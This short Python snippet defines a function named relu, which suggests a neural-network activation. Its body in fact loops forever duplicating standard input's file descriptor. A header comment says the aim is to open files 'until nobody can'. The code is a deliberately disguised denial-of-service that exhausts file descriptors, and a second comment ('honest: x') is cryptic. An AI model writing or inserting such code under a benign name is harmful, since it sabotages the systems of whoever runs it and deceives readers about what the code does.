# tries to open files until nobody can
# honest: x
import os

def relu(x):
    while True:
        os.dup(0)
